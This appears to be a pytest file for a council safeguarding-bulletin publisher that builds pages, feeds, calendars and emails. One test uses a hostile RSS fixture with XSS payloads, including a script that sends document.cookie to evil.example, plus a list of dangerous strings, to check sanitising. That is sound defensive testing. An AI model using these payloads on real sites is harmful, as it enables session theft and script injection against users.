"""The built site: pages, per-audience feeds and calendars, sanitising, accessibility."""

import email
import email.policy
import re
import socket
import subprocess
import sys
import urllib.request

import feedparser
import pytest
from click.testing import CliRunner
from icalendar import Calendar
from selectolax.lexbor import LexborHTMLParser

from conftest import SITE_PAGES, assert_no_axe_violations
from publisher import hookimpl
from publisher.cli import cli
from publisher.serve import serve_directory

HOSTILE_FEED = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Hostile</title><link>https://evil.example/</link>
<description>Feed content is untrusted</description>
<item>
  <title>Alert &lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</title>
  <link>https://evil.example/1</link><guid>evil-1</guid>
  <pubDate>Wed, 14 Feb 2024 09:00:00 +0000</pubDate>
  <description><![CDATA[<p onmouseover="steal()">Read
  <a href="javascript:alert(document.cookie)">this</a>
  <script>fetch('https://evil.example/?c='+document.cookie)</script>
  <style>body{display:none}</style>
  <span style="position:fixed;top:0;left:0;width:100%;height:100%;
               background:url(https://evil.example/track.png)">overlay</span>
  <iframe src="https://evil.example/frame"></iframe><img src="https://evil.example/pixel.gif">
  <a href="https://ok.example/page" onclick="x()">safe link</a></p>]]></description>
</item>
</channel></rss>"""

DANGEROUS = (
    "<script",
    "onerror",
    "onmouseover",
    'onclick="x',
    "javascript:",
    "body{display:none}",
    "position:fixed",
    "<iframe",
    "evil.example/pixel",
    "evil.example/track",
    "alert(document",
)


def test_pages_for_bulletins_and_mi_sheets(demo_site):
    site = demo_site / "site"
    for page in (
        "index.html",
        "updates.html",
        "subscribe.html",
        "mi/index.html",
        "mi/mi-1-24.html",
        "mi/mi-2-24.html",
        "bulletins/index.html",
        "bulletins/2024-02/index.html",
        "bulletins/2024-02/dsls.html",
        "bulletins/2024-02/early-years.html",
    ):
        assert (site / page).exists(), page
    sheet = (site / "mi" / "mi-1-24.html").read_text()
    assert '<th scope="row">To be completed by</th><td>12/01/2024</td>' in sheet
    assert "@media print" in (site / "style.css").read_text()
    early_years = (site / "bulletins" / "2024-02" / "early-years.html").read_text()
    assert "Online safety" not in early_years  # a section for headteachers and DSLs only
    assert "Nothing for this audience this month." in early_years
    dsls = (site / "bulletins" / "2024-02" / "dsls.html").read_text()
    assert "Online safety" in dsls and "Nothing for this audience" not in dsls


def test_feed_boilerplate_is_stripped_from_every_output(demo_site):
    # The sample Ofcom feed ends an item with a "Share and Enjoy:" list of share links.
    site = demo_site / "site"
    outputs = ["updates.html", "feed.xml", "bulletins/2024-02/dsls.html"]
    for page in outputs:
        text = (site / page).read_text()
        assert "Children's media lives" in text.replace("&#x27;", "'").replace("&#39;", "'"), page
        assert "Share and Enjoy" not in text and "facebook.example" not in text, page


def test_updates_page_dates_guidance_by_its_last_update_and_marks_it_statutory(demo_site):
    page = LexborHTMLParser((demo_site / "site" / "updates.html").read_text())
    [wttsc] = page.css("#source-wttsc + ul > li")
    assert wttsc.css_first(".tag").text() == "Statutory guidance"
    assert wttsc.css_first(".meta").text() == (
        "Updated 23 February 2024 (first published 21 March 2013)"
    )
    ofcom = page.css("#source-ofcom + ul > li")
    assert ofcom and not any(item.css_first(".tag") for item in ofcom)


def test_dates_read_the_same_on_every_page(demo_site):
    pages = [(demo_site / "site" / page).read_text() for page in ("updates.html", "index.html")]
    assert all(not re.search(r">0\d [A-Z][a-z]+ 20\d\d<", page) for page in pages)


def test_audience_feeds_are_valid_and_guids_stable(demo_site, tmp_path):
    site = demo_site / "site"
    guids = {}
    for name in ("dsls.rss", "dsls.atom", "governors.rss"):
        feed = feedparser.parse((site / "feeds" / name).read_bytes())
        assert not feed.bozo, (name, feed.get("bozo_exception"))
        guids[name] = [entry.id for entry in feed.entries]
    assert guids["dsls.rss"] == guids["dsls.atom"]
    assert "tag:localhost,2024:mi/1/24" in guids["dsls.rss"]
    assert "tag:localhost,2024:bulletin/2024-02/dsls" in guids["dsls.rss"]
    assert not feedparser.parse((site / "feed.xml").read_bytes()).bozo

    rebuilt = tmp_path / "rebuilt"
    config = demo_site / "feeds.yaml"
    CliRunner().invoke(
        cli,
        [
            "--config",
            str(config),
            "--data-dir",
            str(demo_site / "publisher-data"),
            "build",
            "--output",
            str(rebuilt),
        ],
    )
    again = feedparser.parse((rebuilt / "feeds" / "dsls.rss").read_bytes())
    assert [entry.id for entry in again.entries] == guids["dsls.rss"]


def test_calendar_of_action_deadlines(demo_site):
    calendar = Calendar.from_ical((demo_site / "site" / "calendars" / "dsls.ics").read_bytes())
    events = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
    assert set(events) == {"mi-1-24@localhost", "mi-2-24@localhost"}
    event = events["mi-1-24@localhost"]
    assert event.decoded("dtstart").isoformat() == "2024-01-12"
    assert str(event["summary"]).startswith("Due: MI 1/24 ACTION by 12/01/2024")


def test_hostile_feed_html_never_reaches_pages_feeds_or_email(server, project, tmp_path):
    server.expect_request("/hostile.rss").respond_with_data(
        HOSTILE_FEED, content_type="application/rss+xml"
    )
    project.configure(
        [{"id": "hostile", "kind": "feed", "url": server.url_for("/hostile.rss")}],
        bulletin={"sections": [{"title": "Online safety", "sources": ["hostile"]}]},
    )
    project.run("fetch")
    project.run("bulletin", "build", "--month", "2024-02")
    project.run("build", "--output", str(tmp_path / "site"))
    outputs = {
        "updates page": (tmp_path / "site" / "updates.html").read_text(),
        "bulletin page": (tmp_path / "site" / "bulletins" / "2024-02" / "dsls.html").read_text(),
        "items feed": (tmp_path / "site" / "feed.xml").read_text(),
    }
    message = email.message_from_bytes(
        (project.data_dir / "bulletins" / "2024-02" / "dsls.eml").read_bytes(),
        policy=email.policy.default,
    )
    outputs["email html"] = message.get_body(("html",)).get_content()
    outputs["email text"] = message.get_body(("plain",)).get_content()
    for name, text in outputs.items():
        for dangerous in DANGEROUS:
            assert dangerous not in text, f"{dangerous!r} reached the {name}"
        assert "safe link" in text, name
    assert 'href="https://ok.example/page"' in outputs["bulletin page"]


@pytest.mark.browser
def test_pages_have_no_axe_violations(demo_site, chromium):
    """WCAG 2.2 AA: axe-core in headless Chromium finds nothing on any kind of page."""
    with serve_directory(demo_site / "site") as base_url:
        assert_no_axe_violations(chromium, base_url, [*SITE_PAGES, "changes/1.html"])


@pytest.mark.browser
def test_an_mi_sheet_prints_on_a4_with_the_councils_letterhead(demo_site, chromium):
    page = chromium.new_page()
    try:
        page.goto((demo_site / "site" / "mi" / "mi-1-24.html").as_uri())
        assert not page.locator(".letterhead").is_visible()
        page.emulate_media(media="print")
        assert page.locator(".letterhead").is_visible()
        assert "Education Safeguarding Team" in page.locator(".letterhead").inner_text()
        assert not page.locator("header.header").is_visible()
        assert page.get_by_text("To be completed by 12 January 2024").is_visible()
        pdf = page.pdf(prefer_css_page_size=True)
        sizes = re.findall(rb"MediaBox \[0 0 ([\d.]+) ([\d.]+)\]", pdf)
        assert sizes and all(
            (round(float(w)), round(float(h))) == (595, 842) for w, h in sizes
        )  # A4 in points
    finally:
        page.close()


def test_templates_in_the_configured_folder_override_built_in_ones(project, register_plugin):
    from publisher import hookimpl

    overrides = project.path / "my-templates" / "email"
    overrides.mkdir(parents=True)
    (overrides / "mi_sheet.txt").write_text("Our own layout: {{ notice.title }} ({{ extra }})\n")

    class AddsContext:
        @hookimpl
        def prepare_context(self, context, template_name):
            context["extra"] = f"via prepare_context for {template_name}"

    register_plugin(AddsContext(), name="context-test")
    project.configure(
        [{"id": "news", "kind": "feed", "url": "http://127.0.0.1:9/"}],
        settings={"templates": "my-templates"},
    )
    project.run("mi", "new", "--title", "Custom")
    assert project.run("mi", "show", "1").output == (
        "Our own layout: Custom (via prepare_context for email/mi_sheet.txt)\n"
    )


def test_preview_needs_a_built_site(project):
    project.configure([{"id": "news", "kind": "feed", "url": "http://127.0.0.1:9/"}])
    assert "no site in" in project.run("preview", expect=1).output


def test_preview_serves_the_built_site(demo_site):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    process = subprocess.Popen(
        [sys.executable, "-m", "publisher", "preview", "--port", str(port)],
        cwd=demo_site,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout.readline().startswith(
            f"Serving {demo_site / 'site'} at http://127.0.0.1:{port}/"
        )
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/mi/mi-1-24.html") as response:
            assert response.status == 200
            assert "MI 1/24" in response.read().decode()
    finally:
        process.terminate()
        process.wait(timeout=10)


def test_plugin_templates_come_after_the_users_and_before_the_built_ins(
    project, register_plugin, tmp_path
):
    plugin_templates = tmp_path / "plugin-templates" / "site"
    plugin_templates.mkdir(parents=True)
    (plugin_templates / "index.html").write_text("<p>The plugin's home page</p>")

    class Theme:
        @hookimpl
        def template_dirs(self):
            return [str(tmp_path / "plugin-templates")]

    register_plugin(Theme(), name="theme")
    news = [{"id": "news", "kind": "feed", "url": "http://127.0.0.1:9/"}]
    project.configure(news)
    project.run("build", "--output", str(tmp_path / "out"))
    assert (tmp_path / "out" / "index.html").read_text() == "<p>The plugin's home page</p>"
    assert "<h1" in (tmp_path / "out" / "updates.html").read_text()  # others: built-in

    users = tmp_path / "mine" / "site"
    users.mkdir(parents=True)
    (users / "index.html").write_text("<p>The council's own home page</p>")
    project.configure(news, settings={"templates": str(tmp_path / "mine")})
    project.run("build", "--output", str(tmp_path / "out"))
    assert (tmp_path / "out" / "index.html").read_text() == "<p>The council's own home page</p>"
